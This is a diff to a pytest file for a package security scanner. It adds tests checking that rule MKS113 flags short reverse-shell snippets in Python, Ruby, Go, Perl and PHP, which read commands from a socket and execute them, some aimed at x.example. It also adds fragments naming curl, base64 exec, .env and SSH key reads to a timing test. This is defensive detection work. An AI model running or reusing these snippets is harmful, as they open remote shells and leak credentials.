@@ -236,7 +236,35 @@ def test_what_a_skill_is_about_and_official_installers_are_warnings(name: str, c
 
 
 @pytest.mark.parametrize(
-    "unit", ["curl ", "exec(base64 ", "x = b64decode(", "echo a | sh\n", "open('.env') requests.get ", "/tmp/a.json ", "<!-- ", "```\n", "~/.ssh/id_rsa > ", "Download get https://a.zip ", "~/.bashrc echo ", "a=$a$a b=cu;", "'a' + ", "['a','b',", "$(printf a) x=", "hooks: \"a | curl\" "],
+    ("name", "code", "told"),
+    [
+        (
+            "a.py",
+            "s = socket.socket()\nwhile 1:\n    cmd = s.recv(99).decode()\n    out = subprocess.run(cmd, shell=True)\n",
+            True,
+        ),
+        ("a.rb", "s = TCPSocket.new('x.example', 9)\nwhile l = s.gets\n  s.puts IO.popen(l).read\nend\n", True),
+        (
+            "a.go",
+            'c, _ := net.Dial("tcp", a)\ncmd, err := bufio.NewReader(c).ReadString(10)\nexec.Command("sh", "-c", cmd).Output()\n',
+            True,
+        ),
+        ("a.pl", "my $s = IO::Socket::INET->new($a);\nmy $l = <$s>;\nsystem($l);\n", True),
+        ("a.php", "$f = fsockopen($h, 9);\n$c = fgets($f);\nshell_exec($c); system($c);\n", True),
+        ("a.rb", "s = TCPSocket.new('x.example', 9)\nl = s.gets\nsystem('ls')\nputs l\n", False),
+        ("a.py", "cmd = f.read()\nsubprocess.run(cmd)\ns = socket.socket()\n", False),
+        ("a.py", "s = socket.socket()\nsubprocess.run(cmd)\ncmd = s.recv(99)\n", False),
+    ],
+)
+def test_a_program_that_runs_what_a_socket_says_is_flagged(name: str, code: str, told: bool) -> None:
+    """A name that is set to it and run a few lines on is told, and in no other order."""
+    found = scan_package(Package("x", [PackageFile(name, code.encode())]))
+
+    assert ("MKS113" in {one.code for one in found}) is told
+
+
+@pytest.mark.parametrize(
+    "unit", ["curl ", "exec(base64 ", "x = b64decode(", "echo a | sh\n", "open('.env') requests.get ", "/tmp/a.json ", "<!-- ", "```\n", "~/.ssh/id_rsa > ", "Download get https://a.zip ", "~/.bashrc echo ", "a=$a$a b=cu;", "'a' + ", "['a','b',", "$(printf a) x=", "hooks: \"a | curl\" ", "Socket v,w:=recv ", "fsockopen $v = fgets system(", "Socket v=read\nrun x\n"],
 )  # fmt: skip
 def test_a_large_script_is_read_in_time_that_grows_with_its_length(unit: str) -> None:
     """No pattern looks at the rest of a script again and again."""
